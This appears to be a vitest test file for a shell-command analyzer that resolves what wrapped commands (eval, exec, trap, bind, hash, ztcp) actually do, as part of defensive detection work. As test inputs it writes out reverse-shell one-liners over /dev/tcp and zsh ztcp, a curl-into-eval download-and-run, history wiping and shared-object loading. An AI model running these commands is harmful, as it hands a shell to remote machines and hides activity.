import { describe, expect, it } from 'vitest';
import { analyze, commandsOf, effectsOf } from './shell.ts';

const RM_A = 'file.delete /home/ada/code/shop/a';

describe('a command before another runs it', () => {
  it.each([
    ['command rm a'],
    ['command -p rm a'],
    ['command -- rm a'],
    ['builtin command rm a'],
    ['exec rm a'],
    ['exec -a ls rm a'],
    ['exec -c rm a'],
    ['exec -l rm a'],
    ['exec -cl rm a'],
    ['exec -cla ls rm a'],
    ['exec -c -a ls rm a'],
    ['exec -als rm a'],
    ['noglob rm a'],
    ['nocorrect rm a'],
    ['- rm a'],
    ['builtin eval rm a'],
    ['command -p -- rm a'],
    ['alias rm=ls; command rm a'],
    ['rm() { ls; }; command rm a'],
    ["trap 'rm a' EXIT"],
    ["trap -- 'rm a' EXIT INT"],
    ["complete -C 'rm a' x"],
    ["complete -F f -C 'rm a' x"],
    ["complete '-Crm a' x"],
    ['bind -x \'"\\C-x": rm a\''],
    ['bind -x \'"\\C-x":rm a\''],
    ['bind -m vi -x \'"\\C-x":   rm a\''],
    ["bind -x 'rm a'"],
    ['hash -p /bin/rm x; x a'],
    ["mapfile -c 1 -C 'rm a;' lines"],
    ["readarray -tC 'rm a;' lines"],
    ['eval rm a'],
    ['eval -- rm a'],
    ["eval 'rm a'"],
    ['eval eval eval rm a'],
    ["eval -- eval 'rm a'"],
  ])('%s', (text) => {
    expect(effectsOf(text)).toEqual([RM_A]);
  });

  it.each([
    ['command -v rm a'],
    ['command -V rm a'],
    ['command -pv rm a'],
    ['builtin -v rm a'],
    ['type rm'],
    ['which rm'],
    ['whence rm'],
    ['trap'],
    ["trap 'rm a'"],
    ["trap -- 'rm a'"],
    ['trap - EXIT rm'],
    ['trap -p EXIT rm'],
    ["trap '' EXIT INT"],
    ['complete -p rm a'],
    ['complete -C'],
    ['bind -x'],
    ['bind \'"x": rm a\''],
    ['hash rm a'],
    ['hash -r'],
    ['enable rm'],
    ['eval'],
    ['eval --'],
    ['jobs rm a'],
    ['dirs rm a'],
    ['times rm a'],
    ['history 10'],
    ['history -a'],
    ['history a-c'],
  ])('but %s does nothing', (text) => {
    expect(effectsOf(text)).toEqual([]);
  });

  it('takes no name for it that hash was not told so', () => {
    for (const hash of ['hash -r /bin/rm x', 'hash x /bin/rm x', 'hash -p /bin/rm', 'hash']) {
      expect(effectsOf(`${hash}; x a`)).toEqual(['exec x']);
    }
  });

  it.each([['history -c'], ['history -d 3'], ['history -cw'], ['history -w -c']])('%s empties the history', (text) => {
    expect(effectsOf(text)).toEqual(['file.write ?history history-file']);
  });

  it.each([
    ['enable -f /tmp/x.so x', ['code.eval /tmp/x.so environment']],
    ['enable -nf /tmp/x.so x', ['code.eval /tmp/x.so environment']],
    ['enable -f/tmp/x.so x', ['code.eval /tmp/x.so environment']],
    ['enable -n x', []],
  ])('%s loads code into the shell', (text, expected) => {
    expect(effectsOf(text)).toEqual(expected);
  });
});

describe('a name that is looked up stands for the program', () => {
  it.each([['command -v'], ['which'], ['which -a'], ['whence'], ['whence -p'], ['type -p'], ['command -pv']])('%s', (text) => {
    expect(effectsOf(`$(${text} rm) a`)).toContain(RM_A);
    expect(commandsOf(`echo $(${text} rm cat)`).at(-1)).toBe('echo rm cat');
  });

  it('but only the run can tell what it is', () => {
    expect(effectsOf('which rm | sh')).not.toContain('code.eval literal');
  });
});

describe('what evaluates runs in the shell itself', () => {
  it.each([
    ["eval 'cd /tmp'; rm a", 'file.delete /tmp/a'],
    ['command cd /tmp; rm a', 'file.delete /tmp/a'],
    ["echo 'cd /tmp' > f; . ./f; rm a", 'file.delete /tmp/a'],
    ["echo 'rm $1' > f; source ./f a", RM_A],
    ["set -- a; echo 'set -- b' > f; . ./f; rm $1", RM_A],
    ["set -- a; echo 'ls $1' > f; . ./f b; rm $1", RM_A],
    ['echo "echo a" > f; rm $(. ./f)', RM_A],
    ['rm $(eval echo a)', RM_A],
    ['rm $(command echo a)', RM_A],
    ["rm $(eval 'cat' <<< a)", RM_A],
  ])('%s', (text, expected) => {
    expect(effectsOf(text).at(-1)).toBe(expected);
  });

  it.each([["trap 'cd /tmp' EXIT; rm a"], ["complete -C 'cd /tmp' x; rm a"], ['bind -x \'"x": cd /tmp\'; rm a']])(
    'but later, or elsewhere: %s',
    (text) => {
      expect(effectsOf(text)).toEqual([RM_A]);
    },
  );

  it('with what may be empty', () => {
    const classesIn = (text: string) => analyze(text).actions[0]?.effects[0]?.operand?.classes;
    expect(classesIn('eval "rm $x/"')).toContain('unset');
    expect(classesIn('eval rm a "$x/"')).not.toContain('unset');
    expect(classesIn('eval rm "$x/" /a')).toContain('unset');
    expect(classesIn('x=$(cat f); eval "rm $x/"')).not.toContain('unset');
  });
});

describe('what is evaluated is judged by what it came from', () => {
  it.each([
    ['eval "$x"', 'variable'],
    ['eval $x', 'variable'],
    ['eval "$@"', 'variable'],
    ['eval "$x" "$x"', 'variable'],
    ['eval "$(curl u)"', 'downloaded'],
    ['eval rm a "$(curl u)"', 'downloaded'],
    ['eval "$(curl u)" "$(ls)"', 'downloaded'],
    ['eval "$(ls)"', 'dynamic'],
    ['printf -v x %s "$(curl u)"; eval "$x"', 'downloaded'],
  ])('%s', (text, expected) => {
    expect(effectsOf(text)).toContainEqual(expect.stringMatching(new RegExp(`^code\\.eval .*${expected}$`)));
  });

  it.each([['eval "ls $x"'], ['eval "$x" "$y"'], ['eval "$(ls)"'], ['eval ls "$x"']])('%s is more than one variable', (text) => {
    expect(effectsOf(text)).not.toContainEqual(expect.stringMatching(/variable$/));
  });
});

describe('a connection that stays open', () => {
  const REVERSE_SHELL = expect.stringMatching(/^net\.request .*raw-socket reverse-shell$/);

  it.each([
    ['exec 5<> /dev/tcp/10.0.0.9/443; sh <&5'],
    ['exec 5<> /dev/udp/10.0.0.9/443; sh <&5'],
    ['exec 4> out 5<> /dev/tcp/10.0.0.9/443; sh <&5'],
    ['exec 5<> /dev/tcp/10.0.0.9/443; exec 6> out; sh <&5'],
    ['exec 5<> /dev/tcp/10.0.0.9/443; exec 6<> /dev/tcp/10.0.0.8/443; sh <&5'],
    ['command exec 5<> /dev/tcp/10.0.0.9/443; sh <&5'],
  ])('hands a shell to another machine: %s', (text) => {
    expect(effectsOf(text)).toContainEqual(REVERSE_SHELL);
  });

  it.each([['exec 5<> /dev/tcp/10.0.0.9/443; sh <&4'], ['exec 5<> /tmp/dev/tcp/10.0.0.9/443; sh <&5'], ['exec 5<> /dev/tcpdump; sh <&5']])(
    'but not %s',
    (text) => {
      expect(effectsOf(text)).not.toContainEqual(REVERSE_SHELL);
    },
  );

  it.each([
    ['ztcp h.example 80; sh <&12'],
    ['ztcp h.example 80; sh <&$REPLY'],
    ['ztcp -d 5 h.example 80; sh <&5'],
    ['ztcp -d5 h.example; sh <&$REPLY'],
    ['ztcp -l 80; sh <&12'],
    ['ztcp h.example; exec 7<> /dev/tcp/10.0.0.9/443; sh <&12'],
    ['exec 7<> /dev/tcp/10.0.0.9/443; ztcp h.example; sh <&7'],
  ])('is known to zsh, too: %s', (text) => {
    expect(effectsOf(text, { as: 'zsh' })).toContainEqual(REVERSE_SHELL);
  });

  it.each([
    ['ztcp h.example 80', ['net.request h.example raw-socket']],
    ['ztcp h.example', ['net.request h.example raw-socket']],
    ['ztcp ::1 80', ['net.request ::1 raw-socket']],
    ['ztcp -l 8080', ['net.listen 8080 raw-socket']],
    ['ztcp', []],
    ['ztcp -c', []],
    ['ztcp -c 12', []],
    ['ztcp -L', []],
    ['ztcp -L h.example', []],
  ])('%s', (text, expected) => {
    expect(effectsOf(text, { as: 'zsh' })).toEqual(expected);
  });
});
